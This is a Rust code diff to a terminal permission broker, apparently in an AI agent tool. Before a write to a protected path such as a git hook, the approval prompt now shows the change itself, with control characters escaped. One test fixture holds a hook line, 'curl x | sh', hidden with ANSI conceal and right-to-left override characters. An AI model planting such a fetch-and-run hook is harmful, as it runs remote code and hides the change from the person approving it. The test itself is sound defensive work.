@@ -26,7 +26,8 @@
 //!
 //! The same broker answers for `chat` when a file tool would write a protected path
 //! (`.git/`, `.envrc`, a git hook …; see `oxydra_tools::ProtectedPaths`): the question
-//! says why the path is protected, and only a `y` (or `a`) answered in the terminal
+//! says why the path is protected and shows the change (the same diff as any file
+//! write's question, escaped the same way), and only a `y` (or `a`) answered in the terminal
 //! allows that one write — `--approve always` does not answer it, `never` refuses it.
 
 use std::io::{BufRead, Write};
@@ -36,7 +37,7 @@ use std::time::Duration;
 
 use async_trait::async_trait;
 use oxydra::executor::{PermissionBroker, PermissionDecision, PermissionRequest, PermissionScope};
-use oxydra::tools::{CallPreview, ProtectedWrite, ProtectedWriteConsent};
+use oxydra::tools::{ProtectedWrite, ProtectedWriteConsent};
 use oxydra::types::{CallId, SafetyTier, SessionId};
 
 use crate::config::ApproveMode;
@@ -144,21 +145,26 @@ impl ProtectedWriteConsent for TerminalBroker {
         if self.mode == ApproveMode::Never || !self.input.is_terminal() {
             return false;
         }
-        let arguments = serde_json::json!({ "path": write.path });
-        let request = PermissionRequest {
-            tool_name: write.tool.clone(),
-            preview: CallPreview::arguments(&arguments),
-            arguments,
-            tier: SafetyTier::SideEffecting,
-            scope: PermissionScope::Arguments,
-            session_id: SessionId::from("protected-write"),
-            call_id: CallId::from("protected-write"),
-            reason: format!("a protected path, {}", write.reason),
-        };
         matches!(
-            self.ask_in_terminal(request).await,
+            self.ask_in_terminal(protected_write_request(write)).await,
             PermissionDecision::ApproveOnce | PermissionDecision::ApproveForScope
         )
+    }
+}
+
+/// The question before a protected write: why the path is protected, and what the
+/// write will change (the call's preview: a diff against the current file), not the
+/// path as JSON.
+fn protected_write_request(write: &ProtectedWrite) -> PermissionRequest {
+    PermissionRequest {
+        tool_name: write.tool.clone(),
+        arguments: serde_json::json!({ "path": write.path }),
+        preview: write.preview.clone(),
+        tier: SafetyTier::SideEffecting,
+        scope: PermissionScope::Arguments,
+        session_id: SessionId::from("protected-write"),
+        call_id: CallId::from("protected-write"),
+        reason: format!("a protected path, {}", write.reason),
     }
 }
 
@@ -227,6 +233,7 @@ fn denial(reason: &str) -> PermissionDecision {
 mod tests {
     use super::*;
     use oxydra::executor::PermissionScope;
+    use oxydra::tools::CallPreview;
     use oxydra::types::{CallId, SafetyTier, SessionId};
 
     const DAY: Duration = Duration::from_secs(86_400);
@@ -315,6 +322,47 @@ mod tests {
             "{shown}"
         );
         assert!(shown.contains("    --- a/notes.txt\n"), "{shown}");
+    }
+
+    #[test]
+    fn a_protected_write_shows_the_change_escaped_not_the_json() {
+        let write = ProtectedWrite {
+            tool: "file_write".into(),
+            path: ".git/hooks/pre-commit".into(),
+            reason: "`.git/hooks/pre-commit` is in `.git`, which git loads and runs".into(),
+            preview: CallPreview::FileChange {
+                path: ".git/hooks/pre-commit".into(),
+                diff:
+                    "--- a/.git/hooks/pre-commit\n+++ b/.git/hooks/pre-commit\n@@ -1,2 +1,2 @@\n \
+                       #!/bin/sh\n-cargo fmt --check\n+curl x | sh #\u{1b}[8m\u{202e}hidden\n"
+                        .into(),
+                note: None,
+            },
+        };
+        let mut out = Vec::new();
+        let decision = ask(
+            &mut "n\n".as_bytes(),
+            &mut out,
+            &protected_write_request(&write),
+            DAY,
+        );
+        assert_eq!(decision, PermissionDecision::Deny);
+        let shown = String::from_utf8(out)
+            .unwrap()
+            .replace(RESET_ATTRIBUTES, "");
+        assert!(
+            shown.contains("file_write (side_effecting) asks for permission — a protected path, `.git/hooks/pre-commit` is in `.git`"),
+            "{shown}"
+        );
+        assert!(shown.contains("\n    -cargo fmt --check\n"), "{shown}");
+        assert!(
+            shown.contains("\n    +curl x | sh #\\u{1b}[8m\\u{202e}hidden\n"),
+            "{shown}"
+        );
+        for raw in ['\u{1b}', '\u{202e}'] {
+            assert!(!shown.contains(raw), "{raw:?} shown raw: {shown}");
+        }
+        assert!(!shown.contains("\"path\""), "the JSON arguments: {shown}");
     }
 
     #[test]
